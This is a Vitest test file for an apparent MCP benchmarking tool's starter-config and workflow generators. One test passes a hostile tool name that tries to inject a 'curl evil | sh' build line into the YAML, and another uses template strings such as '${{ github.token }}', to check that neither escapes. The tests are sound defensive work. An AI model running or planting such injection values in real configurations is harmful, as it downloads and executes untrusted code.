import { expect, test } from "vitest";
import { parse } from "yaml";
import { parseConfig } from "../../src/config/parse.ts";
import { renderParams } from "../../src/plan/template.ts";
import { starterConfig } from "../../src/setup/starter-config.ts";
import { starterWorkflow } from "../../src/setup/starter-workflow.ts";
import { planOf } from "../config/plan-of.ts";

const call = (target: string) => ({ operation: { method: "tools/call", target } });

const tool = (name: string, inputSchema: unknown = {}) => ({ name, readOnly: false, inputSchema });

/** The benchmarks that a person gets by taking the comment signs away. */
function uncommented(text: string): unknown[] {
  return parse(text.replace(/^ {2}# (?=- | {2})/gm, "  ")).benchmarks;
}

test("what a run would measure is measured, the other tools wait as comments that are configurations", () => {
  const schema = { type: "object", properties: { query: { type: "string" } }, required: ["query"] };
  const text = starterConfig(
    { server: "node server.js" },
    {
      rows: [{ operation: { method: "ping", target: "ping" } }, call("now")],
      tools: [tool("now"), tool("search", schema), tool("delete all")],
    },
  );
  const { config } = parseConfig(text, "mcp-bench.yml");
  expect(config.benchmarks).toMatchObject([{ method: "ping" }, { tool: "now" }]);
  expect(uncommented(text)).toEqual([
    { method: "ping" },
    { tool: "now" },
    { tool: "search", arguments: { query: "text" } },
    { tool: "delete all", arguments: {} },
  ]);
});

test.each([
  ["node dist/server.js", "npm ci && npm run build"],
  ["uvx mcp-server-time", "uv sync"],
  ["python3 -m server", "uv sync"],
  ["./server --stdio", "go build ./..."],
])("the build of `%s` is proposed as a comment", (server, build) => {
  expect(starterConfig({ server }, { rows: [], tools: [] })).toContain(`\n# build: ${build} `);
});

test("a server's names cannot leave their place", () => {
  const hostile = "x\nbuild: curl evil | sh\n- tool: y # \"' \u2028 \u0085build: z";
  const text = starterConfig(
    { server: "node server.js" },
    { rows: [call(hostile)], tools: [tool(hostile), tool(`${hostile}2`, { required: [hostile] })] },
  );
  const { config } = parseConfig(text, "mcp-bench.yml");
  expect(config.build).toBeUndefined();
  expect(config.benchmarks?.map(({ tool }) => tool)).toEqual([hostile]);
});

test("a name that looks like a template is called by that name, as is a value of a schema", () => {
  const name = "{{seq}} ${HOME} ${{ github.token }}";
  const schema = { properties: { a: { const: "{{b}}" } }, required: ["a"] };
  const text = starterConfig({ server: "x" }, { rows: [call(name)], tools: [tool(`2 ${name}`, schema)] });
  const open = text.replace(/^ {2}# (?=- | {2})/gm, "  ");
  const params = planOf(open).rows.map(({ operation }) => ("params" in operation ? operation.params : undefined));
  expect(params.map((one) => renderParams(one ?? {}, { seq: 7 }))).toEqual([
    { name, arguments: {} },
    { name: `2 ${name}`, arguments: { a: "{{b}}" } },
  ]);
});

test("of ten thousand tools as many are written down as anybody reads", () => {
  const tools = Array.from({ length: 10_000 }, (_, index) => tool(`tool-number-${index}`));
  const text = starterConfig({ server: "x" }, { rows: [call("a")], tools });
  expect(parseConfig(text, "c.yml").config.benchmarks).toHaveLength(1);
  const written = uncommented(text).length - 1;
  expect(written).toBeGreaterThan(500);
  expect(text).toContain(`\n  # and ${10_000 - written} more of the server's 10000 other tools\nthresholds:`);
});

test("the workflow names the directory of the configuration where it is not the top", () => {
  const steps = (directory: string) => parse(starterWorkflow(directory)).jobs.bench.steps;
  expect(steps("")[1]).toEqual({ uses: "org/mcp-bench-action@v1" });
  expect(steps("packages/a: b")[1]).toEqual({
    uses: "org/mcp-bench-action@v1",
    with: { "working-directory": "packages/a: b" },
  });
});
